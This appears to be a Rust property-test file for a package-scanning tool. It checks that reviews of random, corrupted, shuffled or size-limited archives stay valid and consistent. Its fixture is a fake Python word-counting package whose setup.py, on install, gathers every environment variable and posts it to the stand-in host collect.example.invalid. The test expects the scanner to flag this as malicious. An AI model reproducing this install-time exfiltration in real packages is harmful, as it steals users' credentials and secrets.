//! What holds of every review, whatever it is of.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a failure here is a failed test"
)]

use std::io::Write;
use std::sync::LazyLock;

use proptest::prelude::*;
use sluicegate::intake::{Coverage, Input, Limits, Part, Shape};
use sluicegate::{Engine, Options, Review, Verdict, review_bytes};

static ENGINE: LazyLock<Engine> = LazyLock::new(|| Engine::new().unwrap());
static SCHEMA: LazyLock<jsonschema::Validator> =
    LazyLock::new(|| jsonschema::validator_for(&serde_json::from_str(sluicegate::render::SCHEMA).unwrap()).unwrap());

/// Files of a package, some of which convict it together.
const FILES: [(&str, &str); 8] = [
    ("p-1.0/setup.py", "from setuptools import setup\n\nimport p.start\n\nsetup(name=\"p\")\n"),
    ("p-1.0/p/__init__.py", "from .words import count\n"),
    ("p-1.0/p/words.py", "def count(text):\n    return len(text.split())\n"),
    ("p-1.0/p/start.py", "from .send import send\nfrom .collect import everything\n\nsend(everything())\n"),
    ("p-1.0/p/collect.py", "import os\n\n\ndef everything():\n    return dict(os.environ)\n"),
    (
        "p-1.0/p/send.py",
        "import json\nimport urllib.request\n\n\ndef send(data):\n    body = json.dumps(data).encode()\n    \
         urllib.request.urlopen(\"https://collect.example.invalid/e\", data=body)\n",
    ),
    ("p-1.0/README.md", "# p\n\nCounts words.\n"),
    ("p-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: p\nVersion: 1.0\nSummary: Counts words\n"),
];

fn valid(review: &Review) {
    let json = serde_json::to_value(review).unwrap();
    assert!(SCHEMA.is_valid(&json), "{:?}", SCHEMA.iter_errors(&json).next());
    let unread = review.coverage.unread.iter().any(|unread| unread.matters);
    assert!(!(unread && review.verdict == Verdict::Benign), "what was not read is called benign");
    assert!(!json.to_string().contains("internal error"), "{json}");
    let text = sluicegate::render::text(review, sluicegate::render::Look::default());
    assert_eq!(text.chars().find(|&c| c.is_control() && c != '\n'), None);
}

fn tar(files: &[(&str, &str)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, text) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap()
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn review(bytes: Vec<u8>, limits: &Limits) -> Review {
    let input = Input {
        name: "p-1.0.tar.gz".to_owned(),
        shape: Shape::Archive,
        parts: vec![Part { path: "p-1.0.tar.gz".to_owned(), bytes }],
        coverage: Coverage::default(),
    };
    ENGINE.review(input, &Options { limits: limits.clone(), ..Options::default() })
}

/// Bytes near those that readers know: beginnings of formats and pieces of programs, with noise between them.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..60),
        prop_oneof![
            Just(gz(&tar(&FILES[..3]))),
            Just(tar(&FILES[2..4])),
            Just(b"PK\x03\x04\x14\0\0\0\0\0".to_vec()),
            Just(b"PK\x05\x06".to_vec()),
            Just(b"\x1f\x8b\x08\0".to_vec()),
            Just(b"\xfd7zXZ\0".to_vec()),
            Just(b"\x28\xb5\x2f\xfd".to_vec()),
            Just(b"BZh91AY&SY".to_vec()),
            Just(b"\xff\xfe".to_vec()),
            Just(b"#!/usr/bin/env python3\n".to_vec()),
            Just(b"\x7fELF".to_vec()),
        ],
        proptest::sample::select(FILES.map(|(_, text)| text.as_bytes().to_vec()).to_vec()),
        "[ -~\n]{0,60}".prop_map(String::into_bytes),
    ];
    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_a_valid_review(bytes in bytes(), name in ".{0,12}") {
        let review = review_bytes(&name, &bytes, &Options::default());
        valid(&review);
        prop_assert_eq!(review, review_bytes(&name, &bytes, &Options::default()));
    }

    #[test]
    fn cut_archives_are_a_valid_review(at in 0..2048_usize, flip in any::<u8>()) {
        let mut bytes = gz(&tar(&FILES));
        let at = at % bytes.len();
        bytes[at] ^= flip;
        valid(&review(bytes.clone(), &Limits::default()));
        bytes.truncate(at);
        valid(&review(bytes, &Limits::default()));
    }

    #[test]
    fn the_order_of_entries_changes_nothing(files in Just(FILES.to_vec()).prop_shuffle()) {
        let mut ordered = review(gz(&tar(&FILES)), &Limits::default());
        let shuffled = review(gz(&tar(&files)), &Limits::default());
        prop_assert_eq!(ordered.verdict, Verdict::Malicious);
        ordered.digest.clone_from(&shuffled.digest);
        prop_assert_eq!(ordered, shuffled);
    }

    #[test]
    fn a_limit_makes_no_verdict_more_certain(
        files in Just(FILES.to_vec()).prop_shuffle(),
        count in 0..=FILES.len(),
        entries in 0..10_u64,
        file_bytes in 20..400_u64,
        package_bytes in 20..1200_u64,
    ) {
        let files = &files[..count];
        let whole = review(tar(files), &Limits::default());
        for limits in [
            Limits { entries, ..Limits::default() },
            Limits { file_bytes, ..Limits::default() },
            Limits { package_bytes, ..Limits::default() },
        ] {
            let limited = review(tar(files), &limits);
            valid(&limited);
            // What a limit keeps from being read can be what convicts: then nothing is said, and never the contrary.
            if limited.verdict == Verdict::Benign {
                prop_assert_eq!(whole.verdict, Verdict::Benign, "{:?}", limited.coverage);
            }
            if limited.verdict == Verdict::Malicious {
                prop_assert_eq!(whole.verdict, Verdict::Malicious, "{:?}", limited.coverage);
            }
            if limited.verdict != Verdict::Malicious && limited.coverage.unread.iter().any(|unread| unread.matters) {
                prop_assert!(
                    limited.report.confidence <= whole.report.confidence + 1e-9,
                    "{} and {}: {:?}", limited.report.confidence, whole.report.confidence, limited.coverage
                );
            }
        }
    }
}
